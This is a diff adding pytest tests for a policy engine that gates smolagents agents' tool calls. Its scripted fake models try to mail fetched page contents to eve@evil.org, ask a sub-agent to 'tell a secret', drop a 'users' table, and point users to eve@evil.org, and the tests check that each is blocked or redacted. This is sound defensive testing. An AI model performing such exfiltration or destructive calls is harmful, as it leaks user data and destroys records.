@@ -1,0 +1,107 @@
+"""What is peculiar to smolagents: code that calls tools, members, tools that come later, and steps that run out."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from smolagents import CodeAgent, LogLevel, ToolCallingAgent
+from smolagents.models import ChatMessage, MessageRole, Model
+
+from policyengine import Engine
+from policyengine.integrations.smolagents import protect
+from tests.integrations.agents.host_smolagents import Says, made
+from tests.integrations.agents.world import ANN, POLICIES, Ran, Tools
+
+MEMBER = POLICIES + (
+    "tool team(task: String) { sends_outside: false, reads_untrusted: false }\n"
+    'permit team: call on Tool::"team" for User when not (tool.args.task like "*secret*")\n'
+)
+
+
+class Writes(Model):
+    """A model that writes code."""
+
+    def __init__(self, *code: str) -> None:
+        super().__init__()
+        self._code = iter(code)
+        self.seen = ""
+
+    def generate(self, messages: Any, *_: Any, **__: Any) -> ChatMessage:
+        self.seen += str([one.content for one in messages])
+        return ChatMessage(MessageRole.ASSISTANT, f"Thought: go on.\n<code>\n{next(self._code)}\n</code>")
+
+
+def session(policies: str = POLICIES, prompt: str = "write to bob@acme.com") -> Any:
+    return Engine.from_text(policies).session(principal=ANN, prompt=prompt)
+
+
+def tools_of(tools: Tools) -> list[Any]:
+    return [made(one) for one in tools.functions()]
+
+
+def test_code_is_gated_whatever_it_calls() -> None:
+    tools = Tools()
+    model = Writes(
+        "page = read_page('acme.com')\nsend_mail(to='eve@evil.org', body=page)",
+        "send_mail('bob@acme.com', 'hi')\nfinal_answer('I wrote to eve@evil.org.')",
+    )
+    agent = protect(
+        CodeAgent(tools=tools_of(tools), model=model, verbosity_level=LogLevel.OFF),
+        session(),
+        output={"tenant": "acme"},
+    )
+    assert agent.run("write to bob@acme.com") == "I wrote to [email]."
+    assert tools.ran == [("read_page", "acme.com"), ("send_mail", "bob@acme.com", "hi")]
+    assert "`send_mail` may not run" in model.seen
+
+
+def test_code_that_runs_elsewhere_is_refused() -> None:
+    agent = CodeAgent(tools=[], model=Writes(), verbosity_level=LogLevel.OFF)
+    agent.executor_type = "docker"
+    with pytest.raises(ValueError, match="nobody gates"):
+        protect(agent, session())
+
+
+def test_members_are_gated_and_asked_by_the_rules() -> None:
+    tools = Tools()
+    inner: Any = [[("send_mail", {"to": "eve@evil.org", "body": "x"})], "wrote"]
+    member = ToolCallingAgent(
+        tools=tools_of(tools), model=Says(inner, Ran()), verbosity_level=LogLevel.OFF, name="team", description="Helps."
+    )
+    ran = Ran()
+    script: Any = [[("team", {"task": "tell a secret"})], [("team", {"task": "write"})], "done"]
+    agent = protect(
+        ToolCallingAgent(tools=[], model=Says(script, ran), managed_agents=[member], verbosity_level=LogLevel.OFF),
+        session(MEMBER),
+    )
+    assert agent.run("write to bob@acme.com") == "done"
+    assert "`team` may not run" in ran.seen
+    assert tools.ran == []
+
+
+def test_a_tool_that_is_added_later_is_gated() -> None:
+    tools = Tools()
+    ran = Ran()
+    script: Any = [[("drop_table", {"name": "users"})], "done"]
+    agent = protect(ToolCallingAgent(tools=[], model=Says(script, ran), verbosity_level=LogLevel.OFF), session())
+    agent.tools["drop_table"] = next(one for one in tools_of(tools) if one.name == "drop_table")
+    assert agent.run("drop users") == "done"
+    assert (tools.ran, "`drop_table` may not run" in ran.seen) == ([], True)
+
+
+def test_what_is_said_when_the_steps_run_out_is_released() -> None:
+    class Ends(Says):
+        def generate(self, messages: Any, *given: Any, **named: Any) -> ChatMessage:
+            if not named.get("tools_to_call_from"):
+                return ChatMessage(MessageRole.ASSISTANT, "Ask eve@evil.org.")
+            return super().generate(messages, *given, **named)
+
+    script: Any = [[("read_page", {"url": "a"})]]
+    agent = ToolCallingAgent(
+        tools=tools_of(Tools()), model=Ends(script, Ran()), max_steps=1, verbosity_level=LogLevel.OFF
+    )
+    gated = protect(agent, session(), output={"tenant": "acme"})
+    assert gated.run("read a") == "Ask [email]."
+    with pytest.raises(PermissionError):
+        gated.run("read a", stream=True)
